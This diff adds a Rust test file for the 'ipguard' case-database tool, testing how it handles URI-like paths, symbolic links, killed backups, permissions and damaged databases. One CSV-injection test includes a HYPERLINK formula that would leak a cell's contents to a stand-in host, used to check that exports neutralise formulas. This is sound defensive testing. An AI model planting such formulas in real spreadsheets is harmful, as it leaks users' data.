@@ -1,0 +1,339 @@
+//! The edges of the file system and of hostile input (issue 10): paths that look like URIs,
+//! outputs onto the database, symbolic links, partial files, permissions, CSV injection.
+
+use crate::import::STATIONS;
+use crate::workdir::Workdir;
+use std::os::unix::fs::PermissionsExt;
+
+const CASES: &str =
+    "id,station,enterprise,received_on\nC-1,CQ-YZ-001,甲公司,2024-03-05\nC-2,CQ-YZ-001,乙公司,2024-04-05\n";
+
+/// A database with two stations and two cases.
+fn loaded() -> Workdir {
+    let wd = Workdir::new();
+    wd.write("stations.csv", STATIONS);
+    wd.write("cases.csv", CASES);
+    wd.ok(&["import", "stations", "stations.csv"]);
+    wd.ok(&["import", "cases", "cases.csv"]);
+    wd
+}
+
+fn mode(p: &std::path::Path) -> u32 {
+    std::fs::metadata(p).unwrap().permissions().mode() & 0o777
+}
+
+#[test]
+fn a_path_beginning_file_colon_is_a_file_name_not_a_uri() {
+    let wd = loaded();
+    wd.write("other-office.db", "precious");
+    let out = wd.run(&["backup", "file:other-office.db"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert_eq!(
+        std::fs::read(wd.path().join("other-office.db")).unwrap(),
+        b"precious"
+    );
+    let copy = wd.path().join("file:other-office.db");
+    assert!(copy.is_file());
+    // `?mode=memory` is part of the name, and the copy holds the cases.
+    wd.ok(&["backup", "file:bk.db?mode=memory"]);
+    assert!(wd.path().join("file:bk.db?mode=memory").is_file());
+    let listed = wd.ok(&[
+        "--db",
+        "file:bk.db?mode=memory",
+        "case",
+        "list",
+        "--format",
+        "csv",
+    ]);
+    assert_eq!(listed.lines().count(), 3, "{listed}");
+    // A database named like a URI keeps what is written to it.
+    wd.ok(&[
+        "--db",
+        "file:x.db?mode=memory",
+        "station",
+        "add",
+        "CQ-A",
+        "--name",
+        "甲站",
+        "--on",
+        "2024-01-05",
+    ]);
+    let again = wd.ok(&[
+        "--db",
+        "file:x.db?mode=memory",
+        "station",
+        "list",
+        "--format",
+        "csv",
+    ]);
+    assert!(again.contains("CQ-A,甲站"), "{again}");
+    assert!(wd.path().join("file:x.db?mode=memory").is_file());
+}
+
+#[test]
+fn export_refuses_the_database_and_its_companion_files() {
+    let wd = loaded();
+    let before = std::fs::read(wd.db()).unwrap();
+    let db = wd.db();
+    let dir = wd.path().file_name().unwrap().to_str().unwrap().to_string();
+    let spellings = [
+        db.display().to_string(),
+        "ipguard.db".to_string(),
+        "./ipguard.db".to_string(),
+        format!("../{dir}/ipguard.db"),
+        "ipguard.db-wal".to_string(),
+        "ipguard.db-journal".to_string(),
+    ];
+    for o in spellings {
+        let err = wd.refused(&["export", "cases", "-o", &o, "--force"], 3);
+        assert!(
+            err.starts_with(&format!("error: {o} is the database")),
+            "{o}: {err}"
+        );
+    }
+    // A hard link to the database is the database.
+    std::fs::hard_link(wd.db(), wd.path().join("alias.db")).unwrap();
+    let err = wd.refused(&["export", "cases", "-o", "alias.db", "--force"], 3);
+    assert_eq!(
+        err,
+        "error: alias.db is the database: write the output to another file\n"
+    );
+    assert_eq!(std::fs::read(wd.db()).unwrap(), before);
+    assert!(!wd.path().join("ipguard.db-journal").exists());
+}
+
+#[test]
+fn export_to_a_file_is_new_private_and_refuses_to_overwrite_without_force() {
+    let wd = loaded();
+    wd.ok(&["export", "cases", "-o", "cases.out.csv"]);
+    let out = wd.path().join("cases.out.csv");
+    assert_eq!(mode(&out), 0o600);
+    assert_eq!(
+        std::fs::read_to_string(&out).unwrap(),
+        wd.ok(&["export", "cases"])
+    );
+    std::fs::write(&out, "kept").unwrap();
+    let err = wd.refused(&["export", "cases", "-o", "cases.out.csv"], 3);
+    assert_eq!(
+        err,
+        "error: cases.out.csv already exists: give --force to replace it, or choose a new file name\n"
+    );
+    assert_eq!(std::fs::read_to_string(&out).unwrap(), "kept");
+    wd.ok(&["export", "cases", "-o", "cases.out.csv", "--force"]);
+    assert!(std::fs::read_to_string(&out).unwrap().starts_with("id,station"));
+    assert_eq!(mode(&out), 0o600);
+    // --force needs -o.
+    wd.fails(&["export", "cases", "--force"], 2);
+    // No temporary file is left beside it.
+    let names: Vec<String> = std::fs::read_dir(wd.path())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .filter(|n| n.contains(".tmp"))
+        .collect();
+    assert!(names.is_empty(), "{names:?}");
+}
+
+#[test]
+fn a_failed_export_leaves_the_previous_file_in_place() {
+    let wd = loaded();
+    wd.write("cases.out.csv", "the good file\n");
+    // Damage the stored rows so that reading them fails half way.
+    let conn = rusqlite::Connection::open(wd.db()).unwrap();
+    conn.execute("UPDATE cases SET received_on = 'garbage' WHERE id = 'C-2'", [])
+        .unwrap();
+    drop(conn);
+    let out = wd.run(&["export", "cases", "-o", "cases.out.csv", "--force"]);
+    assert_eq!(out.code, 5, "{}", out.stderr);
+    assert_eq!(
+        std::fs::read_to_string(wd.path().join("cases.out.csv")).unwrap(),
+        "the good file\n"
+    );
+    // A full disk: nothing replaces the file either.
+    let full = wd.run(&["export", "cases", "-o", "/dev/full", "--force"]);
+    assert_eq!(full.code, 3, "{}", full.stderr);
+    assert_eq!(
+        full.stderr,
+        "error: /dev/full is not a regular file (a device or a pipe): give the path of a file\n"
+    );
+}
+
+#[test]
+fn outputs_never_follow_a_symbolic_link() {
+    let wd = loaded();
+    let private = wd.write("private.txt", "secret\n");
+    std::os::unix::fs::symlink(&private, wd.path().join("out-link.csv")).unwrap();
+    let err = wd.refused(&["export", "cases", "-o", "out-link.csv", "--force"], 3);
+    assert_eq!(
+        err,
+        "error: out-link.csv is a symbolic link: ipguard does not write through links, give the path of a new file\n"
+    );
+    assert_eq!(std::fs::read_to_string(&private).unwrap(), "secret\n");
+    // A dangling link: the backup does not create its target.
+    std::os::unix::fs::symlink(wd.path().join("elsewhere.db"), wd.path().join("link.db")).unwrap();
+    let err = wd.refused(&["backup", "link.db"], 3);
+    assert!(err.starts_with("error: link.db is a symbolic link"), "{err}");
+    assert!(!wd.path().join("elsewhere.db").exists());
+}
+
+#[test]
+fn a_killed_backup_leaves_nothing_at_its_name() {
+    let wd = Workdir::new();
+    wd.write("stations.csv", STATIONS);
+    wd.ok(&["import", "stations", "stations.csv"]);
+    let mut big = String::from("id,station,enterprise,received_on,summary\n");
+    for i in 0..60_000 {
+        big.push_str(&format!(
+            "C-{i},CQ-YZ-001,某公司{i},2024-03-05,{}\n",
+            "摘要".repeat(40)
+        ));
+    }
+    wd.write("cases.csv", big);
+    wd.ok(&["import", "cases", "cases.csv"]);
+    for (i, delay) in [5u64, 15, 30, 60, 100, 150].iter().enumerate() {
+        let name = format!("pk{i}.db");
+        let mut child = wd
+            .std_cmd(&["backup", &name])
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .unwrap();
+        std::thread::sleep(std::time::Duration::from_millis(*delay));
+        let _ = child.kill();
+        let _ = child.wait();
+        let path = wd.path().join(&name);
+        if path.exists() {
+            // Present only once complete and verified.
+            let out = wd.ok(&["--db", &name, "check"]);
+            assert!(out.contains("audit log intact: 2 entries"), "{name}: {out}");
+            assert!(!wd.path().join(format!("{name}-journal")).exists());
+        } else {
+            // And the next backup to the same name works.
+            wd.ok(&["backup", &name]);
+        }
+    }
+}
+
+#[test]
+fn exported_cells_cannot_run_as_formulas_and_round_trip() {
+    let wd = Workdir::new();
+    wd.write("stations.csv", STATIONS);
+    wd.ok(&["import", "stations", "stations.csv"]);
+    wd.write(
+        "cases.csv",
+        "id,station,enterprise,received_on,summary\n\
+         C-1,CQ-YZ-001,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",2024-03-05,+1 call\n\
+         C-2,CQ-YZ-001,@SUM(A1),2024-03-05,-minus\n\
+         C-3,CQ-YZ-001,'=already quoted,2024-03-05,'plain\n\
+         -4,CQ-YZ-001,''=two,2024-03-05,it's fine\n",
+    );
+    wd.ok(&["import", "cases", "cases.csv"]);
+    assert_eq!(
+        wd.query("SELECT enterprise FROM cases WHERE id = 'C-1'"),
+        "=HYPERLINK(\"http://x.example/?\"&A1)"
+    );
+    assert_eq!(
+        wd.query("SELECT enterprise FROM cases WHERE id = 'C-3'"),
+        "=already quoted"
+    );
+    assert_eq!(wd.query("SELECT summary FROM cases WHERE id = 'C-3'"), "'plain");
+    assert_eq!(wd.query("SELECT enterprise FROM cases WHERE id = '-4'"), "'=two");
+    let first = wd.ok(&["export", "cases", "--bom"]);
+    for line in [
+        "'-4,CQ-YZ-001,''=two,",
+        "C-1,CQ-YZ-001,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",",
+        "C-2,CQ-YZ-001,'@SUM(A1),",
+        "C-3,CQ-YZ-001,'=already quoted,",
+    ] {
+        assert!(first.contains(line), "{line}\n{first}");
+    }
+    assert!(
+        first.contains(",'+1 call,") && first.contains(",'-minus,") && first.contains(",'plain,"),
+        "{first}"
+    );
+    // Lists print the same cells.
+    assert_eq!(
+        wd.ok(&["case", "list", "--format", "csv"]),
+        wd.ok(&["export", "cases"])
+    );
+    let b = Workdir::new();
+    b.write("stations.csv", STATIONS);
+    b.ok(&["import", "stations", "stations.csv"]);
+    b.write("cases.csv", &first);
+    b.ok(&["import", "cases", "cases.csv"]);
+    assert_eq!(b.ok(&["export", "cases", "--bom"]), first);
+}
+
+#[test]
+fn read_only_commands_refuse_a_missing_database() {
+    let wd = Workdir::new();
+    let want = format!(
+        "error: no database at {} (create one with `ipguard station add` or `ipguard import`, or check --db and IPGUARD_DB)\n",
+        wd.path().join("typo.db").display()
+    );
+    let typo = wd.path().join("typo.db");
+    let typo = typo.to_str().unwrap();
+    for args in [
+        vec!["check"],
+        vec!["report", "due"],
+        vec!["audit", "verify"],
+        vec!["audit", "list"],
+        vec!["score", "--all", "--period", "2024"],
+        vec!["case", "list"],
+        vec!["station", "show", "CQ-YZ-001"],
+        vec!["export", "cases"],
+        vec!["backup", "copy.db"],
+    ] {
+        let mut full = vec!["--db", typo];
+        full.extend(&args);
+        let out = wd.run(&full);
+        assert_eq!((out.code, out.stderr.as_str()), (1, want.as_str()), "{args:?}");
+        assert!(!wd.path().join("typo.db").exists(), "{args:?} created the file");
+    }
+    assert!(!wd.path().join("copy.db").exists());
+    // A command that writes creates it.
+    wd.ok(&[
+        "--db",
+        typo,
+        "station",
+        "add",
+        "CQ-A",
+        "--name",
+        "甲站",
+        "--on",
+        "2024-01-05",
+    ]);
+    wd.ok(&["--db", typo, "check"]);
+}
+
+#[test]
+fn export_of_an_unknown_station_is_refused_like_every_list() {
+    let wd = loaded();
+    let err = wd.refused(&["export", "cases", "--station", "NOPE"], 3);
+    let list = wd.refused(&["case", "list", "--station", "NOPE"], 3);
+    assert_eq!(err, list);
+    assert!(!wd.path().join("x.csv").exists());
+    wd.refused(&["export", "cases", "--station", "NOPE", "-o", "x.csv"], 3);
+    assert!(!wd.path().join("x.csv").exists());
+}
+
+#[test]
+fn devices_and_impossible_versions_are_named_not_passed_through() {
+    let wd = Workdir::new();
+    let err = wd.fails(&["--db", "/dev/null", "station", "list"], 1);
+    assert_eq!(
+        err,
+        "error: cannot open the database /dev/null: it is not a regular file (a device or a pipe): give a database file with --db\n"
+    );
+    wd.ok(&["station", "add", "CQ-A", "--name", "甲站", "--on", "2024-01-05"]);
+    rusqlite::Connection::open(wd.db())
+        .unwrap()
+        .pragma_update(None, "user_version", -1)
+        .unwrap();
+    let err = wd.refused(&["station", "list"], 5);
+    assert_eq!(
+        err,
+        format!(
+            "error: the database {} has an impossible schema version (-1): the file is damaged or was altered; restore it from a backup\n",
+            wd.db().display()
+        )
+    );
+}
